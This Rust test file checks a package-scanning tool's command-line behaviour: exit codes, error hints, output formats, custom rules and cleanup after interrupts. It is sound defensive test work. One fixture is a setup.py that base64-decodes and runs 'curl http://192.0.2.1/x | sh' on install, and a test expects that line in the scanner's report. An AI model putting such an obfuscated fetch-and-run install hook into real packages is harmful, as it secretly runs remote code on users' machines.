//! `packguard scan` as its users meet it: exit codes, messages, what is left on disk.

mod compare;
mod known;
mod rules;

use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use packguard_tests::{cache, packguard, tar_gz};

const HONEST: &[(&str, &[u8])] = &[(
    "sample-1.0/sample/__init__.py",
    b"def answer():\n    return 42\n",
)];

/// Sends what it decodes out of a constant to a shell when it is installed; inert, since
/// the address is reserved for documentation.
const MALICIOUS: &[(&str, &[u8])] = &[(
    "sample-1.0/setup.py",
    b"import base64, os\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCIp'))\n",
)];

struct Shell(tempfile::TempDir);

impl Shell {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        std::fs::create_dir(folder.path().join("tmp")).unwrap();
        Self(folder)
    }

    fn file(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.0.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path
    }

    fn command(&self, arguments: &[&str]) -> Command {
        self.subcommand("scan", arguments)
    }

    fn subcommand(&self, name: &str, arguments: &[&str]) -> Command {
        let mut command = Command::new(packguard());
        command
            .arg(name)
            .args(arguments)
            .current_dir(self.0.path())
            .env("TMPDIR", self.0.path().join("tmp"))
            .env("PACKGUARD_CACHE_DIR", cache());
        command
    }

    fn scan(&self, arguments: &[&str]) -> Output {
        self.run(&mut self.command(arguments))
    }

    fn run(&self, command: &mut Command) -> Output {
        let output = command.output().unwrap();
        self.assert_nothing_left();
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(!said.contains("panicked"), "{said}");
        output
    }

    fn assert_nothing_left(&self) {
        let left = std::fs::read_dir(self.0.path().join("tmp"))
            .unwrap()
            .count();
        assert_eq!(left, 0, "temporary files were left");
    }
}

fn json(output: &Output) -> serde_json::Value {
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("{error}: {}", said(output)))
}

fn code(output: &Output) -> i32 {
    output.status.code().unwrap()
}

fn said(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

#[test]
fn exit_codes_tell_the_verdicts_apart() {
    let shell = Shell::new();
    shell.file("honest.tar.gz", &tar_gz(HONEST));
    shell.file("malicious.tar.gz", &tar_gz(MALICIOUS));
    shell.file(
        "broken.tar.gz",
        &tar_gz(&[("sample-1.0/a.py", b"def broken(:\n")]),
    );
    for (arguments, expected) in [
        (&["honest.tar.gz"][..], 0),
        (&["malicious.tar.gz"], 1),
        (&["honest.tar.gz", "malicious.tar.gz"], 1),
        (&["--fail-on", "never", "malicious.tar.gz"], 0),
        (&["broken.tar.gz"], 3),
        (&["--offline", "pkg:pypi/requests@2.28.1"], 4),
        (&["pkg:nothing/at-all"], 2),
        (&["pkg:pypi/"], 2),
        (&["no-such-file.tar.gz"], 2),
        (&["--limits", "memory=lots", "honest.tar.gz"], 2),
        (&["--analyzer", "honest.tar.gz", "honest.tar.gz"], 2),
        (&[], 2),
    ] {
        let output = shell.scan(arguments);
        assert_eq!(code(&output), expected, "{arguments:?}: {}", said(&output));
    }
}

#[test]
fn a_flagged_package_shows_the_line_and_the_payload() {
    let shell = Shell::new();
    shell.file("malicious.tar.gz", &tar_gz(MALICIOUS));
    let text = said(&shell.scan(&["malicious.tar.gz"]));
    for expected in [
        "MALICIOUS",
        "setup.py:2",
        "curl http://192.0.2.1/x | sh",
        "base64",
        "why:",
    ] {
        assert!(text.contains(expected), "{expected} is not in:\n{text}");
    }
}

#[test]
fn bad_input_is_named_with_a_hint_and_the_rest_is_analysed() {
    let shell = Shell::new();
    shell.file("honest.tar.gz", &tar_gz(HONEST));
    shell.file("text.tar.gz", b"this is no archive");
    std::fs::create_dir(shell.0.path().join("empty")).unwrap();
    let output = shell.scan(&["honest.tar.gz", "text.tar.gz", "empty", "pkg:pypi"]);
    let text = said(&output);
    for expected in [
        "text.tar.gz",
        "not an archive",
        "empty holds no files",
        "pkg:pypi",
        "honest.tar.gz",
    ] {
        assert!(text.contains(expected), "{expected} is not in:\n{text}");
    }
    assert!(text.matches("hint").count() >= 3, "{text}");
}

#[test]
fn one_bad_line_of_a_lock_file_does_not_hide_the_rest() {
    let shell = Shell::new();
    shell.file(
        "requirements.txt",
        b"requests==2.28.1\n!!! what is this\nflask==3.0.3\n",
    );
    let output = shell.scan(&["--offline", "--format", "json", "requirements.txt"]);
    let answer: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(
        answer["failures"].as_array().unwrap().len(),
        2,
        "both packages were tried"
    );
    assert_eq!(answer["skipped"][0]["line"], 2);
}

#[test]
fn the_same_input_gives_the_same_bytes_from_process_to_process() {
    let shell = Shell::new();
    shell.file("malicious.tar.gz", &tar_gz(MALICIOUS));
    let scan = || {
        shell
            .scan(&["--format", "json", "--no-timings", "malicious.tar.gz"])
            .stdout
    };
    let first = scan();
    assert!(!first.is_empty());
    assert_eq!(scan(), first);
}

#[test]
fn output_is_written_whole_or_not_at_all() {
    let shell = Shell::new();
    shell.file("honest.tar.gz", &tar_gz(HONEST));
    for format in ["human", "json", "sarif", "markdown"] {
        let output = shell.scan(&["--format", format, "--output", "report", "honest.tar.gz"]);
        assert_eq!(code(&output), 0, "{}", said(&output));
        assert!(output.stdout.is_empty());
        assert!(
            std::fs::metadata(shell.0.path().join("report"))
                .unwrap()
                .len()
                > 20,
            "{format}"
        );
    }
    let output = shell.scan(&["--output", "no/such/folder/report", "honest.tar.gz"]);
    assert_eq!(code(&output), 4, "{}", said(&output));
    assert!(said(&output).contains("hint"));
}

#[test]
fn own_rules_and_names_are_used() {
    let shell = Shell::new();
    shell.file("honest.tar.gz", &tar_gz(HONEST));
    shell.file(
        "own.yar",
        b"rule Own { strings: $a = \"def answer\" condition: $a }",
    );
    shell.file("bad.yar", b"rule {");
    let output = shell.scan(&["--rules", "own.yar", "honest.tar.gz"]);
    assert!(said(&output).contains("Own"), "{}", said(&output));
    let output = shell.scan(&["--rules", "bad.yar", "honest.tar.gz"]);
    assert_eq!(code(&output), 3, "{}", said(&output));
    assert!(said(&output).contains("bad.yar"), "{}", said(&output));
}

#[test]
fn an_interrupt_leaves_nothing_and_says_so() {
    let shell = Shell::new();
    let slow = "x = [1, 2, 3]\n".repeat(1 << 20);
    shell.file(
        "slow.tar.gz",
        &tar_gz(&[("sample-1.0/slow.py", slow.as_bytes())]),
    );
    shell.file("honest.tar.gz", &tar_gz(HONEST));
    // Compiles, so that the next start is at its work at once.
    assert_eq!(code(&shell.scan(&["honest.tar.gz"])), 0);
    let mut scan = shell.command(&["--output", "report", "slow.tar.gz"]);
    let child = scan
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // At work is when its temporary folder is there.
    while std::fs::read_dir(shell.0.path().join("tmp"))
        .unwrap()
        .count()
        == 0
    {
        std::thread::yield_now();
    }
    assert!(
        Command::new("kill")
            .args(["-INT", &child.id().to_string()])
            .status()
            .unwrap()
            .success()
    );
    let output = child.wait_with_output().unwrap();
    assert_eq!(code(&output), 4, "{}", said(&output));
    assert!(said(&output).contains("cancelled"), "{}", said(&output));
    assert!(!shell.0.path().join("report").exists());
    shell.assert_nothing_left();
}
